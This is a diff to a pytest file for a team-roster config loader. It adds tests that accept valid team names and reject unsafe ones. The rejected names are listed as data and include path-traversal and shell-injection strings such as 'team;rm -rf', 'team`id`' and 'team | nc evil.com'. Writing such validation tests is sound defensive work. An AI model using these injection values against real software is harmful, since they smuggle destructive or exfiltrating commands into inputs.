@@ -1,5 +1,6 @@
 """A roster is parsed completely or refused with a position."""
 
+import json
 from decimal import Decimal
 from pathlib import Path
 
@@ -48,6 +49,20 @@ teams:
     assert roster.team("frontend").environment == ("ANTHROPIC_API_KEY",)
     assert roster.team("backend").asked_by == ("frontend", "external")
     assert roster.team("backend").policy == "safe-edit"
+
+
+@pytest.mark.parametrize("name", ["frontend", "team@example", "a.b_c-9"])
+def test_a_team_has_a_name_of_one_word(tmp_path: Path, name: str) -> None:
+    assert load_roster(write(tmp_path, f"teams:\n  {name}: {{project: HERE}}")).team(name).name == name
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["", "team/../etc", "team..etc", "team;rm -rf", "team && echo bad", "team | nc evil.com", "team name", "@team", "team`id`", "a" * 65],
+)  # fmt: skip
+def test_a_name_that_a_shell_or_a_path_would_read_otherwise_is_refused(tmp_path: Path, name: str) -> None:
+    with pytest.raises(InvalidConfig, match="is not a valid team name"):
+        load_roster(write(tmp_path, f"teams:\n  {json.dumps(name)}: {{project: HERE}}"))
 
 
 def test_an_acp_team_has_a_program_arguments_variables_and_a_mode(tmp_path: Path) -> None:
